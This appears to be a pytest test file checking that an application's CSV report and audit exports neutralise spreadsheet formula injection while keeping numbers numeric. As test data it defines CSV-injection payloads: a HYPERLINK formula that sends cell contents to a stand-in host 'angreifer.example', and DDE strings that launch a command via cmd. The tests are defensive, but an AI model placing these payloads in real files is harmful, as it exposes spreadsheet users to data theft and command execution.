"""Every CSV the program writes is safe to open in Excel (OWASP CSV injection, issue 12.7).

Hostile text is put wherever text can reach a CSV: through the real services where they take
it, and straight into the store where import validation would (now or later) refuse it — the
writers must hold even for values that got in before that validation existed or past a gap.
Each file is written to disk, parsed back with :mod:`csv`, and no cell may start with a
formula character unless neutralised with ``'``; numeric cells must still parse as numbers.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from tests.conftest import trusted_pair
from tests.unit.test_reports_statistics import IN_PERIOD, PERIOD, fill_known
from tests.unit.test_services import contact

from vielfalt_desktop.domain.clock import FixedClock
from vielfalt_desktop.domain.records import AuditEntry, Contact, Partner, Record, VocabEntry
from vielfalt_desktop.reports.spreadsheet import render_csv_table, safe_cell
from vielfalt_desktop.services import log_export, report_export
from vielfalt_desktop.services.app import App
from vielfalt_desktop.services.vocabulary import entry_id
from vielfalt_desktop.store import repository as repo

HYPERLINK = '=HYPERLINK("http://angreifer.example/?d="&A1;"Hier klicken")'
DDE = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: What a legitimately numeric CSV cell looks like: digits, a sign, German grouping/decimals.
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)*")


def german_number(text: str) -> float:
    """Parse a cell as German Excel would read a number ("1.234" → 1234, "68,8" → 68.8)."""
    return float(text.replace(".", "").replace(",", "."))


def read(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_safe(lines: list[list[str]]) -> None:
    for line in lines:
        for cell in line:
            if NUMBER.fullmatch(cell):
                continue  # a plain number, e.g. "-3" or "-1,5": harmless and stays a number
            assert cell[:1] not in DANGEROUS, f"formula cell in CSV: {cell!r} in {line}"
            assert cell.lstrip()[:1] not in DANGEROUS, f"formula after blanks: {cell!r}"


def smuggle(app: App, *records: Record) -> None:
    """Write records straight into the store, past the services' validation."""
    with app.store.write() as write:
        for record in records:
            repo.insert_many(write, [record])


# --- the rule --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+49 391 000", "'+49 391 000"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rfoo", "'\rfoo"),
        ("\nfoo", "'\nfoo"),
        ("  =1+1", "'  =1+1"),  # after leading blanks too
        ("\u00a0@SUM(1)", "'\u00a0@SUM(1)"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width forms
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(1)", "'\uff20SUM(1)"),
        ("'=1+1", "'=1+1"),  # already text
        # numbers as strings stay numbers
        ("-3", "-3"),
        ("-1,5", "-1,5"),
        ("+7", "+7"),
        ("1.234", "1.234"),
        ("-1.234,5", "-1.234,5"),
        ("68,8", "68,8"),
        ("0", "0"),
        # ordinary text and the statistics signs stay as they are
        ("Neustädter See", "Neustädter See"),
        ("Laptop Nord - Büro", "Laptop Nord - Büro"),
        ("a=b", "a=b"),
        (".", "."),
        ("–", "–"),  # en dash: Destatis "exactly nothing", not a minus
        ("x", "x"),
        ("", ""),
        ("2026-11-24T10:00:00Z", "2026-11-24T10:00:00Z"),
        # real numbers are written as numbers, untouched
        (-3, -3),
        (0, 0),
        (1234, 1234),
        (-1.5, -1.5),
        (Decimal("-2.50"), Decimal("-2.50")),
        (None, ""),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected  # type: ignore[arg-type]


def test_render_csv_table_neutralises_and_keeps_numbers() -> None:
    data = render_csv_table(("Name", "Zahl"), [("=1+1", -3), ("Ok", "-1,5"), ("@x", 2.5)])
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text == "Name;Zahl\r\n'=1+1;-3\r\nOk;-1,5\r\n'@x;2.5\r\n"


# --- the report CSV -------------------------------------------------------------------------


def test_report_csv_neutralises_hostile_labels_and_codes(
    office_app: App, office_partner: Partner, tmp_path: Path
) -> None:
    fill_known(office_app, office_partner)
    # A vocabulary label renamed to a formula, one new value whose label is a sum …
    smuggle(
        office_app,
        VocabEntry(
            id=entry_id("topic", "wohnen"),
            vocabulary="topic",
            code="wohnen",
            de=SUM,
            en=SUM,
        ),
        VocabEntry(
            id=entry_id("topic", "boese"), vocabulary="topic", code="boese", de="-2+3", en="x"
        ),
    )
    office_app.refresh_vocabulary()
    # … and contacts from elsewhere with unknown codes, which the report shows as they are.
    smuggle(
        office_app,
        *(
            Contact(
                id=str(uuid.uuid4()),
                date=IN_PERIOD,
                district="@SUM(A1:A9)",
                target_group="drittstaat",
                citizenship="SY",
                gender="weiblich",
                age_band="27_44",
                setting="aufsuchend",
                interpreter="keine",
                topics=("+wohnen", "boese"),
            )
            for _ in range(6)
        ),
    )
    report = report_export.build_report(office_app, PERIOD.start, PERIOD.end)
    report_export.write_csv(office_app, report, tmp_path / "bericht.csv")
    lines = read(tmp_path / "bericht.csv")

    assert_safe(lines)
    values = {line[2] for line in lines}
    assert {"'" + SUM, "'@SUM(A1:A9)", "'+wohnen", "'-2+3"} <= values
    assert ["Kontakte", "Stadtteil", "'@SUM(A1:A9)"] in [line[:3] for line in lines]
    assert ["Kontakte", "Thema", "'+wohnen"] in [line[:3] for line in lines]
    # numbers are still numbers: counts, withheld signs, decimal commas
    for line in lines[1:]:
        if line[3] not in (".", "x", "–"):
            assert NUMBER.fullmatch(line[3]), line
            german_number(line[3])
    assert ["Verweisberatung", "Kennzahl", "Annahmequote in %", "68,8"] in lines


# --- the audit CSV --------------------------------------------------------------------------


def test_audit_csv_neutralises_hostile_entries(app: App, tmp_path: Path) -> None:
    app.records.create(contact())
    smuggle(
        app,
        AuditEntry(id=str(uuid.uuid4()), at="=1+1", action="create", record_kind="contact"),
        AuditEntry(
            id=str(uuid.uuid4()),
            at="2026-11-24T09:00:00Z",
            action="+sync",
            record_kind="@SUM(1)",
            record_id="-2+3",
            count=-3,
            detail=HYPERLINK,
        ),
        AuditEntry(
            id=str(uuid.uuid4()),
            at="2026-11-24T08:00:00Z",
            action="peer_added",
            count=1234,
            detail="\t" + DDE,
        ),
    )
    assert log_export.write_audit_csv(app, tmp_path / "pruef.csv") == 4
    lines = read(tmp_path / "pruef.csv")

    assert lines[0] == ["Zeitpunkt", "Gerät", "Aktion", "Art", "Kennung", "Anzahl", "Hinweis"]
    assert_safe(lines)
    cells = {cell for line in lines for cell in line}
    assert {"'=1+1", "'+sync", "'@SUM(1)", "'-2+3", "'" + HYPERLINK, "'\t" + DDE} <= cells
    counts = [line[5] for line in lines[1:]]
    assert sorted(int(c) for c in counts) == [-3, 1, 1, 1234]  # numbers, not text
    # The PDF of the same trail does not break on the malformed time stamp either.
    assert log_export.write_audit_pdf(app, tmp_path / "pruef.pdf") == 5


@pytest.fixture
def hostile_pair(tmp_path: Path, clock: FixedClock) -> Iterator[tuple[App, App]]:
    office, laptop = trusted_pair(tmp_path, clock, HYPERLINK)
    yield office, laptop
    office.close()
    laptop.close()


def test_audit_csv_neutralises_a_hostile_device_name(
    hostile_pair: tuple[App, App], tmp_path: Path, clock: FixedClock
) -> None:
    office, laptop = hostile_pair
    laptop.records.create(contact())
    laptop.sync.export("Koordination", tmp_path / "nord.vfb")
    office.sync.import_file(tmp_path / "nord.vfb")
    log_export.write_audit_csv(office, tmp_path / "pruef.csv")
    lines = read(tmp_path / "pruef.csv")

    assert_safe(lines)
    devices = {line[1] for line in lines[1:]}
    assert "'" + HYPERLINK in devices  # the laptop's own entries, under its name
    details = {line[6] for line in lines[1:]}
    assert "'" + HYPERLINK in details  # "peer_added" and "sync" name the device
